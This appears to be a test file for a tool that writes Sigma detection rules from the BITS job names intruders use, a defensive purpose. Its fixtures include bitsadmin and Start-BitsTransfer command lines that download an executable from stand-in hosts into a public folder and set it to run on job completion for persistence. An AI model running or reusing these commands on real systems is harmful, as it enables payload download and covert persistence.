import { commandFacts } from '@huntforge/observables';
import { selfTestRule } from '../evaluate/self-test';
import { validateRuleDocument } from '../validate/validate-rule';
import { bitsJobNamesOf } from './bits-transfers';
import { generateBuiltinRules } from './builtin-sigma-agent';

// Commands we wrote: BITS jobs an intruder names, as persistence and as downloads.
const article = { title: 'Harrow intrusion notes', url: 'https://notes.example.org/harrow', date: '2026-11-28' };
const evidence = { start: 0, end: 1, text: 'x' };
const rulesOf = (...values: string[]) =>
  generateBuiltinRules({
    article,
    platform: 'windows',
    cmdlines: values.map((value) => ({ evidence, confidence: 0.9, value, executable: '' })),
  });
const namesOf = (commandLine: string) =>
  commandFacts(commandLine, { platform: 'windows' }).invocations.flatMap((invocation) => bitsJobNamesOf(invocation));
const titleRuleOf = (...values: string[]) =>
  rulesOf(...values).find((draft) => JSON.stringify(draft.rule.detection).includes('jobTitle'))?.rule;

describe('bits-client rules on the names intruders give their BITS jobs', () => {
  it('reads the job a bitsadmin verb or Start-BitsTransfer names, never a URL, a path or a listing', () => {
    expect(namesOf('bitsadmin /create /download HarrowSync')).toEqual(['HarrowSync']);
    expect(namesOf('bitsadmin /create HarrowSync')).toEqual(['HarrowSync']);
    expect(namesOf('bitsadmin /addfile HarrowSync http://files.harrow-cdn.example/a.exe C:\\Users\\Public\\a.exe')).toEqual(['HarrowSync']);
    expect(namesOf('bitsadmin /SetNotifyCmdLine HarrowSync C:\\Users\\Public\\a.exe NULL')).toEqual(['HarrowSync']);
    expect(namesOf('Start-BitsTransfer -Source http://x.example/a -Destination C:\\a -DisplayName "Harrow Helper"')).toEqual([
      'Harrow Helper',
    ]);
    expect(namesOf('bitsadmin /list /allusers /verbose')).toEqual([]);
    expect(namesOf('Start-BitsTransfer -Source http://x.example/a -Destination C:\\a')).toEqual([]);
  });

  it('writes one rule on the job created with the reported names that fires on them and nothing else', () => {
    const shown = [
      'bitsadmin /create /download HarrowSync',
      'bitsadmin /addfile HarrowSync http://files.harrow-cdn.example/a.exe C:\\Users\\Public\\a.exe',
      'bitsadmin /SetNotifyCmdLine HarrowSync C:\\Users\\Public\\a.exe NULL',
      'bitsadmin /resume HarrowSync',
    ];
    const rule = titleRuleOf(...shown);
    expect(rule?.logsource).toEqual({ product: 'windows', service: 'bits-client' });
    expect(rule?.detection['selection']).toEqual({ EventID: 3, jobTitle: 'HarrowSync' });
    expect(validateRuleDocument(rule as Record<string, unknown>).findings).toEqual([]);
    const test = selfTestRule(rule as Record<string, unknown>, [
      { type: 'cmdline', value: 'bitsadmin /transfer HarrowSync /download http://files.harrow-cdn.example/a.exe C:\\Users\\Public\\a.exe' },
    ]);
    expect(test.fires).toBe(true);
    expect(test.baseline?.fires ?? 0).toBe(0);
    expect(selfTestRule(rule as Record<string, unknown>, [{ type: 'cmdline', value: 'bitsadmin /create /upload HarrowSync' }]).fires).toBe(
      true,
    );
    expect(selfTestRule(rule as Record<string, unknown>, [{ type: 'cmdline', value: 'bitsadmin /create OtherSync' }]).fires).toBe(false);
  });

  it('writes no title rule for a default or everyday job name', () => {
    expect(titleRuleOf('bitsadmin /transfer download http://files.harrow-cdn.example/a.exe C:\\Users\\Public\\a.exe')).toBeUndefined();
    expect(titleRuleOf('bitsadmin /create myDownloadJob')).toBeUndefined();
  });
});
